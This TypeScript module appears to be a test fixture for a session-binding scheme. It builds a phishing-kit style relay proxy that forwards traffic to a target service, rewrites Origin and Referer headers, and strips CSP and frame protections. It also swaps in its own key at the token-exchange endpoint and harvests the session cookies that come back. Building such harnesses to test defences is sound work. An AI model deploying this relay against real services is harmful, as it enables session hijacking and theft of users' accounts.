/**
 * A relaying proxy, as phishing kits have it: a page of another origin that serves ours, passes every request on, and keeps the cookies that come back.
 */
import { type IncomingHttpHeaders, type IncomingMessage, type OutgoingHttpHeaders, request as send } from 'node:http';
import { createServer } from 'node:https';
import { buffer } from 'node:stream/consumers';
import { paths, type SoftwareSessionKey, testCertificate } from '@stepgate/testkit';
import { relayOrigin } from '../proofs.ts';

export type RelayProxy = {
  readonly port: number;
  /** As a browser would send them: what the attacker has in the end. */
  cookies(): string;
  /** The hash of the last session, for its proofs. */
  session(): string | undefined;
  /** Forgets them, for the next customer. */
  forget(): void;
  close(): Promise<void>;
};

/** Ours would report to the service, or to the browser, that the page isn't ours. */
function forwarded({ headers }: IncomingMessage, target: URL): IncomingHttpHeaders {
  const theirs = { ...headers, host: target.host, 'accept-encoding': 'identity' };
  for (const name of ['origin', 'referer'] as const)
    if (headers[name] !== undefined) theirs[name] = headers[name].replace(relayOrigin, target.origin);
  return theirs;
}

/** The headers that would keep a page from running elsewhere, or redirect the customer. */
function passedBack(headers: IncomingHttpHeaders, target: URL): IncomingHttpHeaders {
  const theirs = { ...headers };
  for (const name of ['content-security-policy', 'content-length', 'x-frame-options', 'etag', 'transfer-encoding'])
    delete theirs[name];
  if (theirs.location !== undefined) theirs.location = theirs.location.replace(target.origin, relayOrigin);
  return theirs;
}

const isText = /^(?:text\/|application\/json)/;

/** The page in the customer's browser signs for the relay's address, which the service refuses. So the relay begins the session with a key of its own. */
function withOwnKey(headers: IncomingHttpHeaders, url: string, body: Buffer, key: SoftwareSessionKey): OutgoingHttpHeaders {
  const { dpop: _, ...others } = headers;
  return url === paths.exchange
    ? { ...others, ...key.prove({ path: paths.exchange, body: JSON.parse(body.toString()) }) }
    : others;
}

/** @param key signs for the sessions that the relay begins */
export async function startRelayProxy(origin: string, key: SoftwareSessionKey): Promise<RelayProxy> {
  const target = new URL(origin);
  const jar = new Map<string, string>();
  let session: string | undefined;

  const keep = (cookies: readonly string[] = []): void => {
    for (const cookie of cookies) {
      const [pair = ''] = cookie.split(';', 1);
      const name = pair.split('=', 1)[0] ?? '';
      if (/Max-Age=0/i.test(cookie)) jar.delete(name);
      else jar.set(name, pair);
    }
  };
  const ask = (incoming: IncomingMessage, body: Buffer): Promise<IncomingMessage> =>
    new Promise((resolve, reject) => {
      const { method, url = '/' } = incoming;
      send(
        {
          hostname: target.hostname,
          port: target.port,
          method,
          path: url,
          headers: withOwnKey(forwarded(incoming, target), url, body, key),
        },
        resolve,
      )
        .on('error', reject)
        .end(body);
    });

  const server = createServer(testCertificate, async (incoming, response) => {
    try {
      const answer = await ask(incoming, await buffer(incoming));
      const body = await buffer(answer);
      keep(answer.headers['set-cookie']);
      if (incoming.url === paths.exchange && answer.statusCode === 200) session = JSON.parse(body.toString()).session?.hash;
      const type = String(answer.headers['content-type']);
      response.writeHead(answer.statusCode ?? 502, passedBack(answer.headers, target));
      response.end(isText.test(type) ? body.toString().replaceAll(target.origin, relayOrigin) : body);
    } catch {
      response.writeHead(502).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return {
    port: address.port,
    cookies: () => [...jar.values()].join('; '),
    session: () => session,
    forget() {
      jar.clear();
      session = undefined;
    },
    close() {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}
